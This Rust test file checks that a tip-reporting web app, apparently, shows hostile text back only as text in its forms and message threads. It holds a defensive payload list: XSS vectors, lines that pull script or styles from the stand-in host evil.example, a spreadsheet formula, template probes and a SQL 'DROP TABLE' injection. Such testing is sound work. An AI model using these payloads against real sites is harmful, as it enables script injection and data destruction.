//! Text that means harm, in every field, on every page that shows it again.

use entity::enums::Role;
use serde_json::{Value, json};

use super::{line::receipt_in, tour};
use crate::{
    look,
    support::{TestApp, browser::Browser},
    window::Window,
};

/// Markup that would run `ran = 1`.
const MARKUP: [&str; 34] = [
    "<script>ran=1</script>",
    "<ScRiPt>ran=1</sCrIpT>",
    "<script/x>ran=1</script >",
    "<script src=data:,ran=1></script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=ran=1>",
    "<img/src=x/onerror=ran=1>",
    "<img src=`x` onerror=ran=1>",
    "<svg onload=ran=1>",
    "<svg><script>ran=1</script></svg>",
    "<svg><animate onbegin=ran=1 attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=ran=1>",
    "<body onload=ran=1>",
    "<iframe src=javascript:ran=1></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data=javascript:ran=1></object>",
    "<embed src=javascript:ran=1>",
    "<a href=javascript:ran=1 autofocus>x</a>",
    "<input onfocus=ran=1 autofocus>",
    "<details open ontoggle=ran=1>",
    "<video><source onerror=ran=1></video>",
    "<audio src=x onerror=ran=1>",
    "<marquee onstart=ran=1>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<template><script>ran=1</script></template>",
    "<noscript><img src=x onerror=ran=1></noscript>",
    "<!--><script>ran=1</script>-->",
    "<![CDATA[<script>ran=1</script>]]>",
    "<?xml version='1.0'?><script>ran=1</script>",
];

/// What would end the place where a text stands.
const ENDS: [&str; 4] = ["", "\">", "'>", "</textarea></title></style></option></datalist>"];

/// Other things that pages have stumbled over.
const OTHER: [&str; 24] = [
    "\" onfocus=ran=1 autofocus x=\"",
    "' onmouseover='ran=1",
    "javascript:ran=1",
    "data:text/html,<script>ran=1</script>",
    "{{7*7}}",
    "{{ f.t(\"name\") }}",
    "{% raw %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "&lt;script&gt;ran=1&lt;/script&gt;",
    "&#60;script&#62;ran=1&#60;/script&#62;",
    "\\u003cscript\\u003eran=1\\u003c/script\\u003e",
    "%3Cscript%3Eran=1%3C/script%3E",
    "+ADw-script+AD4-ran=1+ADw-/script+AD4-",
    "\u{202e}ntk\u{202c}",
    "\u{2066}a\u{2069}\u{200f}b",
    "\u{200b}\u{200c}\u{200d}\u{feff}",
    "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c}",
    "\u{fdfd}\u{fdfd}\u{fdfd}\u{12031}",
    "مرحبا שלום Xin chào",
    "=HYPERLINK(\"//evil.example\")",
    "'; DROP TABLE tips; --",
    "👩‍👩‍👧‍👦🏴‍☠️",
];

fn strings() -> Vec<String> {
    let ended = MARKUP.iter().flat_map(|markup| ENDS.iter().map(move |end| format!("{end}{markup}")));
    let long = ["x".repeat(100_000), "<b>".repeat(10_000)];
    ended.chain(OTHER.iter().map(ToString::to_string)).chain(long).collect()
}

/// Fills in every field of the page's first form, radio buttons aside, and sends it.
const SEND: &str = "
    const form = document.querySelector('main form');
    for (const field of form.querySelectorAll('input[type=text], input[type=tel], textarea'))
        field.value = arguments[0];
    const m2 = document.getElementById('m2');
    if (m2) m2.checked = true;
    window.left = true;
    HTMLFormElement.prototype.submit.call(form)";

/// What came back, once it is another page: whether something ran, what reaches over the edge, what the field holds.
async fn comes_back(window: &Window, field: &str) -> Value {
    let look = format!(
        "if (window.left || document.readyState !== 'complete') return null;
         const out = (() => {{ {} }})();
         return [window.ran === undefined, out, document.querySelector(arguments[0]).value]",
        look::OVERFLOW
    );
    loop {
        let seen = window.runs(&look, json!([field])).await;
        if !seen.is_null() {
            return seen;
        }
    }
}

#[tokio::test]
async fn hostile_text_that_comes_back_in_a_form_is_only_text() {
    let app = TestApp::spawn().await;
    app.officer("ana", &[Role::Screener]).await;
    let window = Window::onto(&app).await;
    let strings = strings();
    assert!(strings.len() >= 150, "{}", strings.len());
    for (path, field) in [("/tip", "#place"), ("/thread", "#receipt"), ("/figures", "#from")] {
        window.opens(path).await;
        // No address is as long as the longest words.
        for text in strings.iter().filter(|text| path != "/figures" || text.len() < 1000) {
            // The page that came back has the form again.
            window.runs(SEND, json!([text])).await;
            let seen = comes_back(&window, field).await;
            assert_eq!(seen, json!([true, [], text]), "{path}: {:.80}", text);
        }
        look::is_quiet(&window, path).await;
    }
}

#[tokio::test]
async fn hostile_text_in_messages_is_only_text() {
    let app = TestApp::spawn().await;
    let ana = app.officer("ana", &[Role::Screener]).await;
    let window = Window::onto(&app).await;
    let browser = Browser::of(&app);
    window.opens("/tip").await;
    window.runs("location.hash = 'all'", json!([])).await;
    window.types("#narrative", "Đêm nào cũng có xe lạ").await;
    window.clicks("label[for=c-ma_tuy]").await;
    window.clicks("main form button").await;
    let receipt = receipt_in(&window).await;
    let number = ana.finds("").await.pop().expect("it has arrived");
    let tip = app.resident().recalls(&number, &receipt).await;
    let mut told = 0;
    for (at, text) in strings().iter().enumerate() {
        let text: String = text.chars().take(4000).collect();
        // Some are refused, such as those that turn the text around.
        told += if at % 2 == 0 {
            u32::from(ana.replies(&tip, &text).await.status == 200)
        } else {
            let form = crate::support::browser::Form::of(&browser.opens(&receipt).await, "/thread/messages");
            u32::from(browser.send(&form.with("text", &text)).await.status == 303)
        };
    }
    assert!(told >= 140, "{told}");
    window.opens("/thread").await;
    tour::shows(&window, &receipt).await;
    assert_eq!(window.count(".talk li").await, u64::from(told));
    look::fits(&window, "messages").await;
    assert_eq!(window.runs("return window.ran === undefined", json!([])).await, true);
    look::is_quiet(&window, "messages").await;
}
